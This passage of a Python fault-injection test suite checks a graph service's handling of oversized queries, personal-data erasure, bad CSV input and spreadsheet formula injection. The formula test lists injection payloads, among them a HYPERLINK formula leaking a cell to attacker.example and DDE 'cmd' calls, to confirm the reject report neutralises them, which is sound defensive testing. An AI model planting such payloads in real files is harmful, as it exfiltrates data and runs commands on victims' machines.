        try:
            with client.stream("POST", "/api/v1/cypher", json={"query": CYPHER_HUGE, "max_rows": 1}) as huge:
                size = sum(len(chunk) for chunk in huge.iter_bytes()) if huge.status_code == 200 else 0
                if not 400 <= huge.status_code < 500:
                    outcome.lost.append(
                        f"the huge row was answered {huge.status_code}"
                        + (f" ({size / 1e6:.0f} MB sent)" if size else "")
                    )
        except httpx.TimeoutException:
            outcome.lost.append("the huge-row query got no answer within 60 s")
    lost = compare(reference.fingerprint, suite.fingerprint(store))
    outcome.lost += lost
    if lost:
        store.state = None


@fault("erasure-two-workers")
def erasure_two_workers(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Erase a person under `serve --workers 2` with warm caches: no answer shows their name or e-mail."""
    suite.ensure_loaded(store)
    with contextlib.closing(store.open()) as opened:
        everyone = list(every(opened.list_people))
    names = [p.name for p in everyone]
    emails = [(p.email or "").casefold() for p in everyone]
    person = next(
        p
        for p in everyone
        if p.company_id
        and p.email
        and p.name.isascii()
        and p.name.replace(" ", "").isalpha()
        and len(p.name) >= 8
        and names.count(p.name) == 1
        and emails.count(p.email.casefold()) == 1
    )
    secrets = (person.name, person.email or "")
    key = suite.create_key(store, "admin")
    headers = {"X-API-Key": key}
    paths = [
        f"/api/v1/people/{person.id}",
        f"/api/v1/accounts/{person.company_id}/graph",
        f"/api/v1/accounts/{person.company_id}/key-people",
        f"/api/v1/people?company_id={person.company_id}&limit=200",
        f"/api/v1/people?search={person.name.split()[-1]}",
        f"/accounts/{person.company_id}",
    ]
    requests = 50
    outcome.tried = (
        f"warm caches of both server processes ({requests} requests), DELETE /api/v1/people/{{id}}, "
        f"then {requests} requests"
    )
    with suite.server(store) as base:
        shown_before = 0
        for i in range(requests):
            body = fresh_get(base + paths[i % len(paths)], headers=headers).text
            shown_before += any(s in body for s in secrets)
        if not shown_before:
            outcome.lost.append("check failed: no answer showed the person before the erasure")
            return
        erased = httpx.delete(f"{base}/api/v1/people/{person.id}", headers=headers, timeout=60)
        store.state = None
        if erased.status_code != 200:
            outcome.lost.append(f"DELETE answered {erased.status_code}")
            return
        leaks: dict[str, int] = {}
        for i in range(requests):
            path = paths[i % len(paths)]
            body = fresh_get(base + path, headers=headers).text
            if any(s in body for s in secrets):
                leaks[path.split("?")[0]] = leaks.get(path.split("?")[0], 0) + 1
        if leaks:
            where = ", ".join(f"{path.replace(person.id, '{id}')} {n}x" for path, n in sorted(leaks.items()))
            outcome.lost.append(
                f"{sum(leaks.values())} of {requests} answers after the erasure still showed the name or "
                f"e-mail ({where})"
            )


#: Values a spreadsheet would run as formulas.
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
)


@fault("formula-injection")
def formula_injection(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Rejected values that are spreadsheet formulas: the CSV reject report neutralises their cells."""
    store.fresh()
    folder = native_files(
        suite.work / f"formulas-{store.kind}",
        [_company("formula-co", "Formula Company")],
        [_person("formula-ok", "Good Person", "formula-co")]
        + [
            {
                "id": f"formula-{i}",
                "name": "Bad Person",
                "email": value,
                "company_id": value,
                "title": "Engineer",
            }
            for i, value in enumerate(FORMULAS)
        ],
    )
    report = suite.work / f"rejects-{store.kind}.csv"
    outcome.tried = (
        f"`buyergraph ingest --rejects {report.name}` of rows whose rejected values are formulas "
        f"({len(FORMULAS)} kinds)"
    )
    done = suite.ingest(store, [folder], "--rejects", str(report))
    if done.code != 0:
        outcome.lost.append(f"the ingest exited {done.code}: {done.last_line()}")
    if not report.exists():
        outcome.lost.append("no reject report was written")
        return
    cells = [cell for row in csv.reader(io.StringIO(report.read_text(encoding="utf-8-sig"))) for cell in row]
    carried = [c for c in cells if any(f.lstrip("=+-@") in c for f in FORMULAS)]
    if not carried:
        outcome.lost.append("check failed: the report holds none of the rejected values")
    live = [c for c in carried if c.startswith(FORMULA_STARTS)]
    if live:
        outcome.lost.append(
            f"{len(live)} report cells start with a formula character (e.g. {live[0][:12]!r}...)"
        )
    if "formula-ok" not in suite.fingerprint(store).people:
        outcome.lost.append("the good row was not loaded")
    store.state = None


#: Bad rows between good ones, one file each: (name, the bad row, whether the row may load as decoded
#: or be reported without a field).
BAD_ROWS = (
    ("invalid UTF-8", b"bad-1,Bad \xff\xfe Bytes,bad-1@bad-co.example,bad-co,Engineer\n", True),
    ("a NUL byte", b"bad-1,Nul \x00 Person,bad-1@bad-co.example,bad-co,Engineer\n", True),
    (
        "a 200,000-character title",
        b"bad-1,Long Title,bad-1@bad-co.example,bad-co," + b"T" * 200_000 + b"\n",
        False,
    ),
)


@fault("bad-input")
def bad_input(suite: Suite, store: Store, outcome: Outcome) -> None:
    """Bad bytes, a NUL, an over-long field, a reject report fed back: good rows load, bad ones reported."""
    store.fresh()
    outcome.tried = (
        f"{len(BAD_ROWS)} people.csv files with {', '.join(name for name, _, _ in BAD_ROWS)} between good "
        "rows, then a reject report fed back in as input"
    )
    header = b"id,name,email,company_id,title\n"
    good = [f"good-{i},Good Person {i},good-{i}@bad-co.example,bad-co,Engineer\n".encode() for i in (1, 2)]
    reports = []
    for index, (name, row, may_load) in enumerate(BAD_ROWS):
        folder = suite.work / f"bad-input-{store.kind}-{index}"
        report = folder.with_suffix(".jsonl")
        reports.append(report)
        native_files(folder, [_company("bad-co", "Bad Input Company")], [])
        (folder / "people.csv").write_bytes(header + good[0] + row + good[1])
        done = suite.ingest(store, [folder], "--rejects", str(report))
        if done.code != 0:
            outcome.lost.append(f"{name}: the ingest exited {done.code}: {done.last_line()}")
        people = suite.fingerprint(store).people
        if "good-1" not in people or "good-2" not in people:
            outcome.lost.append(f"{name}: good rows not loaded")
        rejects = (
            [json.loads(line) for line in report.read_text("utf-8").splitlines()] if report.exists() else []
        )
        whole = next((r for r in rejects if r.get("row") is None), None)
        if whole:
            outcome.lost.append(f"{name}: people.csv refused as a whole ({str(whole.get('reason'))[:60]})")
        # An over-long value belongs to a field; bad bytes may be the row's (or load as decoded).
        named = any(r.get("row") == 3 and (r.get("field") or may_load) for r in rejects)
        if not named and not ("bad-1" in people and may_load):
            outcome.lost.append(f"{name}: row 3 not reported with its row{'' if may_load else ' and field'}")
        store.fresh()
    suite.ingest(store, [folder])
    before = suite.fingerprint(store)
    fed_back = suite.ingest(store, [r for r in reports if r.exists()] or [report])
    if fed_back.code not in (0, 2):
        outcome.lost.append(f"the reject report fed back exited {fed_back.code}: {fed_back.last_line()}")
    outcome.lost += [
        f"after the reject report was fed back: {x}" for x in compare(before, suite.fingerprint(store))
    ]
    store.state = None


# --- running -----------------------------------------------------------------------------------------


#: Memory of the private Neo4j unless the operator set these: the suite shares the machine.
MODEST_NEO4J = {"BUYERGRAPH_NEO4J_HEAP": "1g", "BUYERGRAPH_NEO4J_PAGECACHE": "256m"}


def start_modest(neo4j: Any) -> None:
    """Start the private Neo4j with MODEST_NEO4J memory (the server reads it from the environment)."""
    added = {k: v for k, v in MODEST_NEO4J.items() if k not in os.environ}
    os.environ.update(added)
    try:
        neo4j.start(echo=False)
    finally:
        for name in added:
            os.environ.pop(name, None)


def run(options: Options) -> list[Outcome]:
    work = Path(tempfile.mkdtemp(prefix="buyergraph-faults-"))
    suite = Suite(options, work)
    neo4j = None
    outcomes: list[Outcome] = []
    previous = signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    try:
        if "neo4j" in options.stores:
            neo4j = private_neo4j("faults", keep_port=True)
            if not neo4j.status().running:
                suite.log(f"  starting a private Neo4j on port {neo4j.port} ...")
                start_modest(neo4j)
        stores = {kind: Store(kind, work, neo4j if kind == "neo4j" else None) for kind in options.stores}
        for item, kind in plan(options):
            outcome = Outcome(item.name, kind)
            started = time.monotonic()
            try:
                item.run(suite, stores[kind], outcome)
            except Exception as exc:  # one broken fault must not stop the others
                outcome.lost.append(f"check failed: {type(exc).__name__}: {str(exc)[:300]}")
                stores[kind].state = None
            finally:
                suite.processes.stop_all()
                if neo4j is not None:
                    pid = neo4j.status().pid
                    if pid:
                        os.kill(pid, signal.SIGCONT)
                    elif kind == "neo4j":
                        start_modest(neo4j)
            outcome.seconds = round(time.monotonic() - started, 1)
            outcomes.append(outcome)
            suite.log(outcome.line())
    finally:
        suite.processes.stop_all()
        if neo4j is not None:
            pid = neo4j.status().pid
            if pid:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(pid, signal.SIGCONT)
            if not options.keep_neo4j:
                neo4j.stop()
        signal.signal(signal.SIGTERM, previous)
        shutil.rmtree(work, ignore_errors=True)
    return outcomes


def main(argv: Sequence[str] | None = None) -> int:
    options = parse_args(argv)
    FAULTS_DIR.mkdir(parents=True, exist_ok=True)
    outcomes = run(options)
    failed = [o for o in outcomes if not o.ok]
    if options.as_json:
        print(json.dumps({"outcomes": [o.__dict__ for o in outcomes], "failed": len(failed)}, indent=2))
    else:
        print(f"{len(outcomes) - len(failed)} of {len(outcomes)} faults lost nothing")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
